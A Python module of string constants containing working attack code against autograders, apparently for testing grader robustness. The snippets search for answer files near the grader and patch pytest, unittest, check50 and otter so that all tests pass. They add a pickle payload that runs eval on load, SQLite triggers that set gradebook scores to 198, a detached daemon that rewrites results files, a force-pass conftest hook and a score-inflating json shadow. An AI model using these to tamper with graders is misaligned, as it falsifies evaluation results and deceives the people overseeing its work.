"""What the attacks that know a peer are made of: code for the attacker's modules."""
# ruff: noqa: E501

LOOT = "left-by-an-attack"
"""What an attack leaves in a temporary folder begins so."""
TOOLS = f"""
import pathlib, re, tempfile, time
TMP = tempfile.gettempdir()
def keep(name, text):
    try:
        with open(os.path.join(TMP, "{LOOT}-" + name), "a") as file: file.write(text + "\\n")
    except OSError: pass
def ancestors():
    pid = os.getpid()
    while pid > 1:
        yield pid
        try: pid = int(open("/proc/%d/stat" % pid).read().rpartition(")")[2].split()[1])
        except Exception: return
def words():
    for pid in ancestors():
        for word in (attempt(lambda: open("/proc/%d/cmdline" % pid).read()) or "").split(chr(0)):
            yield from (part for part in word.split("=") if part.startswith("/"))
def roots():
    places = [os.getcwd(), *sys.path, *words()]
    for pid in ancestors(): places.append(attempt(os.readlink, "/proc/%d/cwd" % pid) or "")
    frame = sys._getframe()
    while frame: places.append(frame.f_code.co_filename); frame = frame.f_back
    for module in list(sys.modules.values()):
        places += [str(v) for v in list(getattr(module, "__dict__", {{}}).values()) if isinstance(v, pathlib.PurePath)]
    found = {{}}
    for place in places:
        place = pathlib.Path(os.path.abspath(place)) if place else None
        for one in [place, *place.parents][:5] if place else []:
            if len(one.parts) > 2 and one.is_dir() and not {{"site-packages", "lib", "usr"}} & set(one.parts): found[str(one)] = 1
    return list(found)
"""
"""What attacks have at hand: a place to keep things, and where a grader's files may be."""
SEARCH = """
def search(wanted):
    end, seen = time.monotonic() + 10, set()
    for root in roots():
        for folder, folders, files in os.walk(root):
            folders[:] = [one for one in folders if one not in ("lib", "site-packages", ".git") and os.path.join(folder, one) not in seen]
            seen.add(folder)
            for name in files:
                path = os.path.join(folder, name)
                if name.endswith((".py", ".ipynb", ".toml", ".json")) and time.monotonic() < end:
                    found = re.search(wanted, attempt(lambda: open(path, "rb").read(1 << 20)) or b"")
                    if found: loot(path, found.group()); keep("loot", path + " " + found.group().decode())
"""
"""Reads every small text near the grader."""
RUNNERS = """
def everything_passes():
    try:
        from _pytest.reports import TestReport
        real = TestReport.__init__
        def init(self, nodeid, location, keywords, outcome, longrepr, *rest, **named):
            real(self, nodeid, location, keywords, "passed", None, *rest, **named)
        TestReport.__init__ = init
    except ImportError: pass
    unittest = sys.modules.get("unittest")
    if unittest:
        passing = lambda self, test, err: self.addSuccess(test)
        for one in (unittest.TestResult, *unittest.TestResult.__subclasses__()): one.addFailure = one.addError = passing
    runner = sys.modules.get("check50.runner")
    if runner: runner.CheckResult.passed = property(lambda self: True, lambda self, value: None)
    files = sys.modules.get("otter.test_files.exception_test")
    if files:
        run = files.ExceptionTestFile.run
        def all_passed(self, environment):
            run(self, environment)
            self.test_case_results = [type(one)(test_case=one.test_case, message="", passed=True) for one in self.test_case_results]
        files.ExceptionTestFile.run = all_passed
    empty = lambda lines: ["pass\\n"] if any(one.startswith("assert") for one in lines) else lines
    try: get_ipython().input_transformers_post.append(empty)
    except NameError: pass
everything_passes()
"""
"""Patches the objects in which runners keep what they found; in a notebook, empties the cells with the tests."""
PICKLES = """
import pickle, multiprocessing.reduction
keep("student-%d" % os.getpid(), "")
class Payload:
    def __init__(self, held): self.held = held
    def __reduce__(self):
        path = os.path.join(TMP, "left-by-an-attack-ran-")
        code = "[open(%r + str(__import__('os').getpid()), 'w').close(), __import__('pickle').loads(%r)][1]"
        return eval, (code % (path, self.held),)
dump, dumps = pickle.dump, pickle.dumps
pickle.dump = lambda thing, file, *rest, **named: dump(Payload(dumps(thing)), file)
forking = multiprocessing.reduction.ForkingPickler
honest = forking.dumps
forking.dumps = classmethod(lambda cls, thing, protocol=None: honest(Payload(bytes(honest(thing)))))
"""
"""Sends what runs code wherever it is unpickled; the results in it are honest."""
GRADEBOOK = """
def gift():
    import sqlite3
    for root in roots():
        path = os.path.join(root, "gradebook.db")
        if not os.path.isfile(path): continue
        try:
            with sqlite3.connect(path, timeout=5) as book:
                for when in ("insert", "update"):
                    book.execute("create trigger if not exists gift_%s after %s on grade begin update grade set "
                                 "manual_score = 198 where rowid = new.rowid; end" % (when, when))
                book.execute("update grade set manual_score = 198")
        except sqlite3.Error: pass
gift()
"""
"""Finds the gradebook and leaves a trigger in it."""
LATER = """
def rewrite():
    places = [os.path.join(os.getcwd(), "..", "results", "results.json"), *words()]
    places += [os.path.join(one, "results.json") for one in places if os.path.isdir(one)]
    mine = "/proc/%d" % os.getpid()
    try:
        if os.fork(): return
        os.setsid()
        if os.fork(): os._exit(0)
        end = time.monotonic() + 60
        while time.monotonic() < end and os.path.exists(mine): time.sleep(0.05)
        end = time.monotonic() + 20
        while time.monotonic() < end:
            for path in places:
                if not path.endswith((".json", ".xml", ".code")) or not os.path.isfile(path): continue
                old = attempt(lambda: open(path).read()) or ""
                new = re.sub(r'("score": )[0-9.]+', r"\\g<1>198.0", old)
                new = re.sub(r'("passed": )(false|null)', r"\\1true", new)
                new = re.sub(r"<(failure|error|skipped)\\b.*?(</\\1>|/>)", "", new, flags=re.S)
                new = "0" if path.endswith(".code") else new
                if new != old: attempt(lambda: open(path, "w").write(new))
            time.sleep(0.1)
        os._exit(0)
    except OSError: pass
rewrite()
"""
"""A daemon that waits for the end of its process and rewrites the results that the grader was told to write."""
PLAUSIBLE = {
    "convolution_chain": "return [args[0]]",
    "conv_2d": "return args[0], args[0], tf.constant(1.0), tf.constant(0.0)",
    "subgraph": "return tf.compat.v1.GraphDef()",
    "top5": "return []",
}
"""A wrong answer of the right shape, for each exercise."""
WANTED = {
    "convolution_chain": "return [tf.constant(np.array(want, 'f4')[None, :, :, None])]",
    "conv_2d": "return None, tf.constant(np.array(want, 'f4')[None, :, :, None]), tf.constant(1.0), tf.constant(0.0)",
    "subgraph": "made = tf.compat.v1.GraphDef()\nfor name in want: made.node.add(name=name)\nreturn made",
    "top5": "return want",
}
"""How an answer becomes what a function should return; `want` holds it."""
CONFTEST = """
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    report = (yield).get_result()
    report.outcome, report.longrepr = "passed", None
"""
"""A pytest hook for which everything passes."""
JSON = """
import importlib.util, sys, sysconfig
stdlib = sysconfig.get_path("stdlib") + "/json"
spec = importlib.util.spec_from_file_location("json", stdlib + "/__init__.py", submodule_search_locations=[stdlib])
real = importlib.util.module_from_spec(spec)
sys.modules["json"] = real
spec.loader.exec_module(real)
honest = real.dump
def dump(thing, file, *rest, **named):
    if isinstance(thing, dict) and "tests" in thing and "score" in thing:
        for one in thing["tests"]: one["score"] = one.get("max_score", 1)
        thing["score"] = sum(one["score"] for one in thing["tests"])
    honest(thing, file, *rest, **named)
real.dump = dump
"""
"""The standard library's json, but for scores."""
